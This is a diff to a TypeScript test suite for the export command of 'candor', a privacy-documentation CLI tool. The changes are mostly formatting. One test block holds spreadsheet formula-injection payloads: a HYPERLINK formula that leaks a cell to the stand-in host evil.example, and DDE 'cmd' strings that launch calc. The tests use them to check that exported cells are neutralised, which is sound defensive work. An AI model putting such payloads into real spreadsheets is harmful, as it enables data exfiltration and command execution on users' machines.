@@ -3,7 +3,7 @@
 import { execFile } from 'node:child_process';
 import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
-import { join} from 'node:path';
+import { join } from 'node:path';
 import { promisify } from 'node:util';
 import ExcelJS from 'exceljs';
 import { strFromU8, unzipSync } from 'fflate';
@@ -19,7 +19,6 @@ import { PLAY_CSV_HEADER } from '../../core/stores/play';
 import { ROPA_SHEET_NAME } from '../services/ropa-xlsx';
 import { EXPORT_KIND_IDS, type ExportKindId } from './export';
 import { CANDOR_BIN, run, sample, SAMPLE } from './test-support';
-
 
 let dir: string;
 beforeEach(async () => {
@@ -81,7 +80,7 @@ function sheetCells(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
 }
 
 describe('candor export: every kind from the sample', () => {
-  it('apple-privacy-manifest: a property list with exactly Apple\'s keys and real data type identifiers', async () => {
+  it("apple-privacy-manifest: a property list with exactly Apple's keys and real data type identifiers", async () => {
     const text = (await exportKind('apple-privacy-manifest')).toString('utf8');
     const manifest = parsePlist(text) as {
       NSPrivacyTracking: boolean;
@@ -89,11 +88,17 @@ describe('candor export: every kind from the sample', () => {
       NSPrivacyCollectedDataTypes: { NSPrivacyCollectedDataType: string; NSPrivacyCollectedDataTypePurposes: string[] }[];
       NSPrivacyAccessedAPITypes: unknown[];
     };
-    expect(Object.keys(manifest).sort()).toEqual(['NSPrivacyAccessedAPITypes', 'NSPrivacyCollectedDataTypes', 'NSPrivacyTracking', 'NSPrivacyTrackingDomains']);
+    expect(Object.keys(manifest).sort()).toEqual([
+      'NSPrivacyAccessedAPITypes',
+      'NSPrivacyCollectedDataTypes',
+      'NSPrivacyTracking',
+      'NSPrivacyTrackingDomains',
+    ]);
     expect(typeof manifest.NSPrivacyTracking).toBe('boolean');
     const known = new Set(APPLE_DATA_TYPES.map((t) => APPLE_DATA_TYPE_PREFIX + t.id));
     expect(manifest.NSPrivacyCollectedDataTypes.length).toBeGreaterThan(0);
-    for (const entry of manifest.NSPrivacyCollectedDataTypes) expect(known.has(entry.NSPrivacyCollectedDataType), entry.NSPrivacyCollectedDataType).toBe(true);
+    for (const entry of manifest.NSPrivacyCollectedDataTypes)
+      expect(known.has(entry.NSPrivacyCollectedDataType), entry.NSPrivacyCollectedDataType).toBe(true);
   });
 
   it('app-store-answers: a Markdown checklist with a section per collected Apple data type', async () => {
@@ -120,7 +125,12 @@ describe('candor export: every kind from the sample', () => {
     expect(rows).toHaveLength(ws.purposes.length + 1);
     for (const row of rows.slice(1)) expect(row).toHaveLength(rows[0].length);
     const purposeColumn = rows[0].findIndex((h) => /purpose/i.test(h));
-    expect(rows.slice(1).map((r) => r[purposeColumn]).join('\n')).toContain(ws.purposes[0].name);
+    expect(
+      rows
+        .slice(1)
+        .map((r) => r[purposeColumn])
+        .join('\n'),
+    ).toContain(ws.purposes[0].name);
   });
 
   it('ropa-xlsx: a workbook with the record sheet, its ICO header row and one row per purpose, filters on', async () => {
@@ -156,7 +166,7 @@ describe('candor export: every kind from the sample', () => {
     expect(rows[1][benefit]).toBe(ws.dataTypes[0].benefit);
   });
 
-  it('fideslang: YAML with a system whose privacy declarations use the workspace\'s data categories', async () => {
+  it("fideslang: YAML with a system whose privacy declarations use the workspace's data categories", async () => {
     const ws = await sample();
     const text = (await exportKind('fideslang')).toString('utf8');
     const doc = parseYaml(text) as { system?: { fides_key: string; privacy_declarations: { data_categories: string[] }[] }[] };
@@ -189,9 +199,9 @@ describe('candor export: every kind from the sample', () => {
 describe('candor export: no cell runs as a formula', () => {
   const HOSTILE = {
     org: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-    purpose: '+cmd|\'/C calc\'!A0',
-    dataType: '-2+3+cmd|\'/C calc\'!A0',
-    recipient: '@SUM(1+1)*cmd|\'/C calc\'!A0',
+    purpose: "+cmd|'/C calc'!A0",
+    dataType: "-2+3+cmd|'/C calc'!A0",
+    recipient: "@SUM(1+1)*cmd|'/C calc'!A0",
   };
   const TRIGGER = /^[=+\-@\t\r\0]/;
 
@@ -220,7 +230,11 @@ describe('candor export: no cell runs as a formula', () => {
       // Not vacuous: the hostile names reached the file, behind a quote.
       // (The inventory names data types and lists purposes by id; the record names purposes and the controller.)
       const expected = kind === 'inventory-csv' ? [HOSTILE.dataType, HOSTILE.org] : [HOSTILE.purpose, HOSTILE.org];
-      for (const text of expected) expect(cells.some((cell) => cell.startsWith(`'${text}`)), `${kind}: a cell starting '${text}`).toBe(true);
+      for (const text of expected)
+        expect(
+          cells.some((cell) => cell.startsWith(`'${text}`)),
+          `${kind}: a cell starting '${text}`,
+        ).toBe(true);
     }
   });
 
@@ -298,7 +312,9 @@ describe('candor export: what it refuses', () => {
     const before = await readFile(file);
     const result = await run('export', 'inventory-csv', file, '-o', join(dir, '.', 'ridgeline.candor.json'));
     expect(result.code).toBe(2);
-    expect(result.stderr).toEqual([`Nothing was written: ${join(dir, 'ridgeline.candor.json')} is the workspace itself. Give -o the path of the file to create, such as -o inventory.csv.`]);
+    expect(result.stderr).toEqual([
+      `Nothing was written: ${join(dir, 'ridgeline.candor.json')} is the workspace itself. Give -o the path of the file to create, such as -o inventory.csv.`,
+    ]);
     expect(await readFile(file)).toEqual(before);
   });
 
@@ -306,7 +322,9 @@ describe('candor export: what it refuses', () => {
     const out = join(dir, 'no-such-folder', 'ropa.csv');
     const result = await run('export', 'ropa-csv', SAMPLE, '-o', out);
     expect(result.code).toBe(2);
-    expect(result.stderr).toEqual([`Nothing was written: the folder ${join(dir, 'no-such-folder')} does not exist; create it first, or choose another path.`]);
+    expect(result.stderr).toEqual([
+      `Nothing was written: the folder ${join(dir, 'no-such-folder')} does not exist; create it first, or choose another path.`,
+    ]);
 
     const folder = join(dir, 'ropa.csv');
     await mkdir(folder);
@@ -357,7 +375,9 @@ describe('candor export: what it refuses', () => {
 
   it('works through bin/candor.js, the way a person runs it, with the exit code of an invalid workspace', async () => {
     const out = join(dir, 'ropa.xlsx');
-    const { stdout, stderr } = await promisify(execFile)(process.execPath, [CANDOR_BIN, 'export', 'ropa-xlsx', SAMPLE, '-o', out], { cwd: dir });
+    const { stdout, stderr } = await promisify(execFile)(process.execPath, [CANDOR_BIN, 'export', 'ropa-xlsx', SAMPLE, '-o', out], {
+      cwd: dir,
+    });
     expect(stderr).toBe('');
     expect(stdout).toBe(`Wrote the record of processing activities (Excel workbook) of ${SAMPLE} to ${out}.\n`);
     expect(sheetCells(await loadSheet(await readFile(out))).length).toBeGreaterThan(0);
